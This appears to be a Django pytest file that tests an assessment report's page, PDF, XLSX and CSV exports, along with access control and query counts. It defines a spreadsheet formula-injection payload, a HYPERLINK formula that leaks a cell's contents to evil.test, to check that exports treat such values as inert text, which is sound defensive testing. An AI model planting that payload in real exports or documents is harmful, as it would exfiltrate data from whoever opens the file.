"""The assessment report (issue item 6): the printable page, the PDF from the same template, the XLSX workbook and
the CSV, with the same figures in each, formula-safe, private to the team and its verifikator, read in a fixed
number of queries."""

import csv
import datetime
import io
import sys
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from pypdf import PdfReader

from assessment.action_plan import ActionItem
from assessment.assessments import SelfAssessment
from assessment.reports import build
from assessment.rounds import VerificationRound
from assessment.verification import save_review
from meritopedia.models import Indicator
from portal.models import Instansi
from tests.cop.test_practices import make_user as make_site_user

from .factories import (
    answer_all,
    assign_verifier,
    give_scale,
    make_assessment,
    make_team,
    make_user,
    submit_assessment,
    verify_round,
)

pytestmark = pytest.mark.django_db

YEAR = 2024
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&B2,"x")'
SLUG = "penilaian-mandiri-pemerintah-provinsi-nusa-tenggara-timur-2024"


@pytest.fixture
def people():
    instansi = Instansi.objects.get(kind="provinsi", province="Nusa Tenggara Timur")
    ketua, verifier = make_user("ketua-ntt", first_name="Yohana"), make_user("verifikator-kasn")
    make_team(instansi, ketua, members=[(make_user("anggota-ntt"), "kinerja")])
    assign_verifier(instansi, verifier)
    give_scale()
    return instansi, ketua, verifier


def _codes(letter=None) -> list[str]:
    indicators = Indicator.objects.filter(aspect__version__is_current=True)
    if letter:
        indicators = indicators.filter(aspect__letter=letter)
    return list(indicators.values_list("code", flat=True))


def _deck_points() -> dict:
    """From 410 (every indicator at its top) down to the KASN deck's 282,5: twelve of the thirteen 10-point
    indicators of pengembangan karier (c) at 0 (-120) and one of manajemen kinerja (e) at 2,5 (-7,5)."""
    return {**{code: "zero" for code in _codes("c")[:12]}, _codes("e")[0]: "2.5"}


@pytest.fixture
def in_round_two(people):
    """Last year's assessment answered at half (205, never submitted); this year's answered at the top, Verifikasi
    Awal closed at 282,5 with the second indicator flagged, and Asistensi 1 open with the first and the third
    scored so far."""
    instansi, ketua, verifier = people
    answer_all(make_assessment(instansi, YEAR - 1, ketua), ketua, "half")
    assessment = make_assessment(instansi, YEAR, ketua)
    first, second = _codes()[:2]
    answer_all(assessment, ketua, "top", narrative={first: HYPERLINK})
    verify_round(submit_assessment(assessment), verifier, points=_deck_points(), flag=(second,),
                 findings={first: HYPERLINK, second: "SK tim belum ditandatangani PPK."})
    round_two = submit_assessment(assessment)
    access = assign_verifier(instansi, verifier)
    answers = list(assessment.answers.select_related("indicator", "level"))
    for answer in (answers[0], answers[2]):  # the flagged second one not yet
        save_review(round_two, answer, verifier, access, None, answer.level, "Sudah diperbaiki.", False)
    ActionItem.objects.create(
        assessment=assessment, indicator=assessment.answers.first().indicator, action="=1+1 susun SK tim",
        output_target="SK PPK", due_date=datetime.date(2024, 9, 30), owner=ketua, created_by=ketua,
    )
    assessment.refresh_from_db()
    return assessment


@pytest.fixture
def determined(people):
    """This year's assessment through all four rounds, the last at 282,5: determined as "baik"."""
    instansi, ketua, verifier = people
    assessment = make_assessment(instansi, YEAR, ketua)
    answer_all(assessment, ketua, "top")
    for _number in range(4):
        verify_round(submit_assessment(assessment), verifier, points=_deck_points())
    assessment.refresh_from_db()
    return assessment


def _urls(prefix):
    return [f"{prefix}laporan/", f"{prefix}laporan.pdf", f"{prefix}laporan.xlsx", f"{prefix}laporan.csv"]


TEAM = f"/penilaian/{YEAR}/"


def _verifier_prefix(assessment):
    return f"/penilaian/verifikasi/{assessment.instansi_id}/{YEAR}/"


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_page_shows_scores_per_aspect_and_round_in_indonesian_notation(client, people, in_round_two):
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    response = client.get(f"{TEAM}laporan/")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    html = response.content.decode()
    assert "282,5" in html and "282.5" not in html  # the deck's figure, Indonesian notation
    assert "410" in html and "Verifikasi Awal" in html and "Asistensi 1" in html
    assert "Nilai mandiri 2023" in html and "205" in html  # last year's, beside this year's
    assert "SK tim belum ditandatangani PPK." in html and "Perlu diperbaiki" in html
    assert "susun SK tim" in html and "30 September 2024" in html
    assert 'href="/penilaian/2024/laporan.pdf"' in html and 'href="/penilaian/2024/laporan.xlsx"' in html
    assert "@media print" not in html  # the print rules are in the stylesheet
    assert "Belum ditetapkan" in html


def test_the_determined_result_with_its_consequence(client, people, determined):
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    html = client.get(f"{TEAM}laporan/").content.decode()
    assert "0,69" in html and "baik" in html
    assert "Pasal 18 ayat (3)" in html and "Pasal 18 ayat (4)" in html  # what "baik" brings
    assert "Verifikasi Akhir" in html
    report = build(determined)
    assert report.assessment.verified_points == Decimal("282.5")
    assert [line.verified[-1] for line in report.aspects] == [
        line.aspect.max_points - (Decimal(120) if line.aspect.letter == "c" else Decimal("7.5")
                                  if line.aspect.letter == "e" else 0)
        for line in report.aspects
    ]


def test_the_report_data_per_indicator_and_for_the_open_round(people, in_round_two):
    report = build(in_round_two)
    first, second, third, fourth = report.indicators[:4]
    assert first.verified_round == 2 and first.finding == "Sudah diperbaiki." and not first.flagged
    assert first.answer.narrative == HYPERLINK and first.level.points == first.max_points
    assert second.verified_round == 1 and second.flagged and second.finding == "SK tim belum ditandatangani PPK."
    assert third.verified_round == 2 and fourth.verified_round == 1 and fourth.finding.startswith("Temuan ")
    assert [column.is_open for column in report.rounds] == [False, True]
    assert report.total.verified[0] == Decimal("282.5")
    # The open round adds up what is scored so far: the first and the third indicator, at their tops.
    assert report.total.verified[1] == first.max_points + third.max_points
    assert report.total.self_points == Decimal(410) and report.total.previous == Decimal(205)
    # Compared with last year: the closed round's figure, not the open round's sum so far.
    assert report.total.latest == Decimal("282.5") and report.previous_label == "Nilai mandiri 2023"
    assert report.total.change == Decimal("77.5")
    assert report.self_index == Decimal("1.00") and report.self_category == "sangat baik"
    assert [item.action for item in report.actions] == ["=1+1 susun SK tim"]


def test_the_report_is_read_in_a_fixed_number_of_queries(people, in_round_two):
    def fresh():  # as the views read it
        return SelfAssessment.objects.select_related("version").get(pk=in_round_two.pk)

    assessment = fresh()
    with CaptureQueriesContext(connection) as one:
        build(assessment)
    _instansi, _ketua, verifier = people
    verify_round(VerificationRound.objects.get(assessment=in_round_two, number=2), verifier)
    verify_round(submit_assessment(in_round_two), verifier, close=False)
    assessment = fresh()
    with CaptureQueriesContext(connection) as three:
        report = build(assessment)
    assert len(report.rounds) == 3
    assert len(one) == len(three) <= 12, [q["sql"] for q in three.captured_queries]


def test_the_pdf_is_the_same_report(client, people, in_round_two):
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    response = client.get(f"{TEAM}laporan.pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response["Cache-Control"] == "private, no-store"
    assert f'filename="{SLUG}.pdf"' in response["Content-Disposition"]
    data = _body(response)
    assert data.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) >= 2
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "Nusa Tenggara Timur" in text and "282,5" in text and "Rencana aksi" in text


def test_the_workbook_has_a_sheet_per_part_with_numbers_as_numbers_and_formulas_as_text(client, people, in_round_two):
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    response = client.get(f"{TEAM}laporan.xlsx")
    assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
    assert f'filename="{SLUG}.xlsx"' in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(_body(response)))
    assert book.sheetnames == ["Ringkasan", "Aspek", "Indikator", "Rencana aksi"]

    summary = {row[0].value: row[1] for row in book["Ringkasan"].iter_rows(min_row=2)}
    assert summary["Nilai maksimal"].value == 410 and summary["Nilai maksimal"].data_type == "n"
    assert summary["Nilai verifikasi: Verifikasi Awal"].value == 282.5
    assert summary["Tahun"].value == YEAR and summary["Nilai mandiri 2023"].value == 205

    aspects = list(book["Aspek"].iter_rows(values_only=True))
    assert aspects[0] == ("Huruf", "Aspek", "Nilai maksimal", "Nilai mandiri", "Verifikasi: Verifikasi Awal",
                          "Verifikasi: Asistensi 1 (berjalan)", "Nilai mandiri 2023", "Selisih")
    assert aspects[1][:4] == ("a", "Perencanaan kebutuhan", 40, 40)
    assert aspects[-1][1:5] == ("Jumlah", 410, 410, 282.5)
    assert all(cell.data_type == "n" for cell in list(book["Aspek"].iter_rows(min_row=2))[0][2:5])

    indicators = list(book["Indikator"].iter_rows())
    header = [cell.value for cell in indicators[0]]
    assert header[:3] == ["Aspek", "Kode", "Indikator"] and "Temuan" in header and "Uraian tim" in header
    assert len(indicators) == 1 + 46
    by_name = dict(zip(header, indicators[1], strict=True))
    for name in ("Uraian tim",):
        assert by_name[name].value == HYPERLINK and by_name[name].data_type == "s"
    assert by_name["Nilai mandiri"].data_type == "n"
    flagged = dict(zip(header, indicators[2], strict=True))
    assert flagged["Perlu diperbaiki"].value == "Ya" and flagged["Putaran verifikasi"].value == "Verifikasi Awal"
    fourth = dict(zip(header, indicators[4], strict=True))
    assert fourth["Temuan"].value.startswith("Temuan ") and fourth["Perlu diperbaiki"].value == "Tidak"

    actions = list(book["Rencana aksi"].iter_rows())
    assert [cell.value for cell in actions[0]][:2] == ["Indikator", "Aksi"]
    assert actions[1][1].value == "=1+1 susun SK tim" and actions[1][1].data_type == "s"
    assert actions[1][5].is_date and actions[1][5].value.date() == datetime.date(2024, 9, 30)


def test_a_finding_that_looks_like_a_formula_is_text_in_the_workbook(client, people):
    instansi, ketua, verifier = people
    assessment = make_assessment(instansi, YEAR, ketua)
    answer_all(assessment, ketua, "top")
    first = _codes()[0]
    verify_round(submit_assessment(assessment), verifier, findings={first: HYPERLINK}, close=False)
    client.force_login(ketua)
    sheet = openpyxl.load_workbook(io.BytesIO(_body(client.get(f"{TEAM}laporan.xlsx"))))["Indikator"]
    header = [cell.value for cell in sheet[1]]
    finding = sheet.cell(row=2, column=header.index("Temuan") + 1)
    assert finding.value == HYPERLINK and finding.data_type == "s"


def test_the_csv_neutralises_a_cell_that_starts_like_a_formula(client, people, in_round_two):
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    response = client.get(f"{TEAM}laporan.csv")
    assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"] == f'attachment; filename="{SLUG}.csv"'
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
    assert rows[0][:3] == ["Aspek", "Kode", "Indikator"] and len(rows) == 1 + 46
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Nilai maksimal"] == "8" and first["Nilai verifikasi"] == "8"


def test_the_verifikator_reaches_the_report_under_its_own_address(client, people, in_round_two):
    _instansi, _ketua, verifier = people
    client.force_login(verifier)
    prefix = _verifier_prefix(in_round_two)
    for url in _urls(prefix):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Cache-Control"] == "private, no-store"
    html = client.get(f"{prefix}laporan/").content.decode()
    assert f'href="{prefix}laporan.xlsx"' in html and "282,5" in html
    for url in _urls(TEAM):  # not a member: the team's addresses are not theirs
        assert client.get(url).status_code == 404, url


def test_anonymous_visitors_are_sent_to_sign_in(client, people, in_round_two):
    for url in _urls(TEAM) + _urls(_verifier_prefix(in_round_two)):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/akun/login/?next="), url


@pytest.mark.parametrize("who", ["other_team", "editor", "superuser"])
def test_anyone_else_gets_404_for_all_four(client, people, in_round_two, who):
    if who == "other_team":
        other = Instansi.objects.get(kind="provinsi", province="Bali")
        user = make_user("ketua-bali")
        make_team(other, user)
    elif who == "editor":
        user = make_site_user("editor-kasn", "Editors", "Moderators")
    else:
        user = get_user_model().objects.create_superuser("super-kasn", "super@kasn.go.id", "x")
    client.force_login(user)
    for url in _urls(TEAM) + _urls(_verifier_prefix(in_round_two)):
        response = client.get(url)
        assert response.status_code == 404, (who, url)
        assert b"Nusa Tenggara Timur" not in _body(response)


def test_a_year_without_an_assessment_is_404(client, people):
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    for url in _urls("/penilaian/2019/"):
        assert client.get(url).status_code == 404, url


def test_every_member_of_the_team_reads_the_report(client, people, in_round_two):
    client.force_login(get_user_model().objects.get(username="anggota-ntt"))  # kelompok kerja kinerja only
    for url in _urls(TEAM):
        assert client.get(url).status_code == 200, url


def test_without_weasyprint_the_pdf_address_says_so_and_offers_the_rest(client, people, in_round_two, monkeypatch):
    monkeypatch.setitem(sys.modules, "weasyprint", None)  # as when Pango is missing: the import fails
    _instansi, ketua, _verifier = people
    client.force_login(ketua)
    response = client.get(f"{TEAM}laporan.pdf")
    assert response.status_code == 503 and response["Cache-Control"] == "private, no-store"
    html = response.content.decode()
    assert "PDF laporan belum dapat dibuat" in html and "laporan.xlsx" in html and "282,5" in html
